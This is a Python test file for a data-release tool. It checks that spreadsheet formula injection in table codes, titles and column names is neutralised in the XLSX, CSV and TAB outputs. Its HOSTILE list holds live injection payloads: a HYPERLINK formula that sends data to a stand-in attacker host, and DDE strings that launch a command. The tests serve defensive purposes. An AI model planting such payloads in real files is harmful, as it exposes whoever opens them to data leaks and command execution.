"""Issue 19, item 1: formula injection through release files.

The attacker puts spreadsheet formulas into codes, titles and column names; the output checker
opens the release's XLSX, CSV and TAB files in Excel. The checks below are the attacker's own:
openpyxl's view of every cell (no cell of type "f", no text cell starting with an active
character) and a plain ``csv`` parse of the delimited files.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

import kit
from kit.cli import main
from kit.errors import SpecError
from kit.release import write_release

openpyxl = pytest.importorskip("openpyxl")

HOSTILE = ['=HYPERLINK("http://evil.example/?leak","click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+9)*cmd|' /C calc'!A0"]
ACTIVE = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$")


def spreadsheet_problems(folder: Path) -> list[str]:
    """Every place in XLSX/CSV/TAB files of ``folder`` a spreadsheet would run as a formula."""
    problems = []
    for path in sorted(folder.rglob("*")):
        if path.suffix == ".xlsx":
            wb = openpyxl.load_workbook(path)  # not data_only: formulas stay formulas
            for ws in wb.worksheets:
                for row in ws.iter_rows():
                    for cell in row:
                        if cell.data_type == "f":
                            problems.append(f"{path.name} {cell.coordinate}: formula")
                        elif isinstance(cell.value, str) and cell.value.startswith(ACTIVE):
                            problems.append(f"{path.name} {cell.coordinate}: active text")
        elif path.suffix in (".csv", ".tab", ".txt"):
            delim = "," if path.suffix == ".csv" else "\t"
            for r, row in enumerate(csv.reader(io.StringIO(path.read_text(encoding="utf-8")), delimiter=delim)):
                for field in row:
                    if field.startswith(ACTIVE) and not NUMBER.match(field):
                        problems.append(f"{path.name} row {r}: active field")
    return problems


def hostile_table(tmp_path: Path) -> Path:
    rows = ["KOM,S,n"]
    for code in HOSTILE:
        quoted = '"' + code.replace('"', '""') + '"'
        rows += [f"{quoted},1,20", f"{quoted},2,25"]
    path = tmp_path / "hostile.csv"
    path.write_text("\n".join(rows) + "\n", encoding="utf-8")
    return path


@pytest.mark.parametrize("rules", ["dst", "sacro"])  # dst writes .tab, sacro .csv; both write .xlsx
def test_hostile_codes_and_title_never_become_formulas(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                       capsys: pytest.CaptureFixture[str], rules: str) -> None:
    monkeypatch.chdir(tmp_path)
    src = hostile_table(tmp_path)
    release = tmp_path / "rel"
    code = main(["check", str(src), "--dims", "KOM,S", "--count", "n", "--rules", rules, "--release",
                 str(release), "--title", "=1+1", "--name", "hostile", "--no-differencing-check"])
    assert code == 0, capsys.readouterr().err
    written = {p.suffix for p in release.rglob("*")}
    assert ".xlsx" in written and (".csv" in written or ".tab" in written)
    assert spreadsheet_problems(release) == []
    # the codes are still there, as text (neutralised, not dropped)
    wb = openpyxl.load_workbook(release / "tables" / "hostile.xlsx")
    texts = {c.value for row in wb.active.iter_rows() for c in row if isinstance(c.value, str)}
    assert all(f"'{h}" in texts for h in HOSTILE)
    assert "'=1+1" in texts


def test_negative_numbers_stay_numbers_in_csv() -> None:
    from kit.release.neutral import neutralise

    assert [neutralise(t) for t in ("-1.5", "+3", "-2e-05", "- of which", "-1+2")] == [
        "-1.5", "+3", "-2e-05", "'- of which", "'-1+2"]


def test_tab_and_carriage_return_codes_from_the_library(tmp_path: Path) -> None:
    session = kit.Session(unit="PNR", rules="sacro", data_label="test", created="2024-01-01T00:00:00+00:00")
    df = pd.DataFrame({"PNR": np.arange(60), "KOM": ["\tcmd", "\r=1+1", "@x"] * 20})
    table = kit.clear(session.table(df, rows="KOM", name="t", title="+title"))
    write_release(tmp_path / "rel", [table], session.rules, title="=report")
    assert spreadsheet_problems(tmp_path / "rel") == []


def test_control_characters_are_a_kit_error_not_openpyxl_s(tmp_path: Path) -> None:
    session = kit.Session(unit="PNR", rules="sacro", data_label="test", created="2024-01-01T00:00:00+00:00")
    df = pd.DataFrame({"PNR": np.arange(40), "KOM": ["ok", "ZQX987\x01"] * 20})
    table = kit.clear(session.table(df, rows="KOM", name="t"))
    with pytest.raises(SpecError) as info:
        write_release(tmp_path / "rel", [table], session.rules, title="t", formats=("xlsx",))
    assert "ZQX987" not in str(info.value)
    assert not (tmp_path / "rel").exists() and list(tmp_path.iterdir()) == []
